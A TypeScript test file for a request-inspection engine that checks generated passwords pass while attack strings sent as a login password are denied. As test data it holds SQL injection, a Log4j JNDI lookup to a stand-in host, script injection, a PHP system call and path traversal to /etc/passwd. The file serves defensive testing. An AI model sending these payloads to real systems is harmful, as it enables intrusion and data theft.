import { DetectionEngine } from '../../../lib/detection/detection-engine';

const engine = new DetectionEngine();
const denies = (field: string, text: string) =>
  engine.inspect({
    method: 'POST',
    path: '/login',
    queryString: '',
    headers: { 'content-type': 'application/json' },
    body: { [field]: text },
    files: undefined,
    route: undefined,
  })?.denies === true;

const printable = Array.from({ length: 94 }, (_, i) => String.fromCharCode(33 + i)).join('');
const signs = printable.replaceAll(/[a-z0-9]/gi, '');

/** The same passwords in each run: a failure names one that can be looked at. */
function* passwords(alphabet: string, count: number): Generator<string> {
  let state = 20_251;
  const random = (below: number) => {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    return (state >>> 8) % below;
  };
  for (let i = 0; i < count; i++)
    yield Array.from({ length: 8 + (i % 57) }, () => alphabet.charAt(random(alphabet.length))).join('');
}

describe('a generated password', () => {
  it.each([
    ['of all printable characters', printable],
    ['of many signs', printable + signs + signs],
  ])('passes: %s', (_kind, alphabet) => {
    const denied = Array.from(passwords(alphabet, 10_000)).filter((password) => denies('password', password));
    expect(denied).toEqual([]);
  });

  const hard = ["xK'or'7=8", "k<?$a'||b", '${{7*7}}x'];
  it.each(
    (
      'password newPassword user[password] pw pwd2 confirm repeat retype pass1 userPass kennwort senha contrasena contraseña ' +
      'mdp motdepasse haslo wachtwoord losenord parola sifre pin passcode passphrase clientSecret'
    ).split(' '),
  )('passes in a field that is called %s', (field) => {
    expect(hard.filter((text) => denies('note', text))).toEqual(hard);
    expect(hard.filter((text) => denies(field, text))).toEqual([]);
  });
});

it.each([
  "' or '1'='1",
  "x'or'1'='1",
  "' union select name, pin from cards-- -",
  '${jndi:ldap://a.example/x}',
  '<script>go()</script>',
  '"><svg/onload=go()>',
  "<?php system('id');",
  "x';waitfor delay '0:0:5'--",
  '../../../../etc/passwd and more',
])('finds %s in a field for a password', (attack) => {
  expect(denies('password', attack)).toBe(true);
});
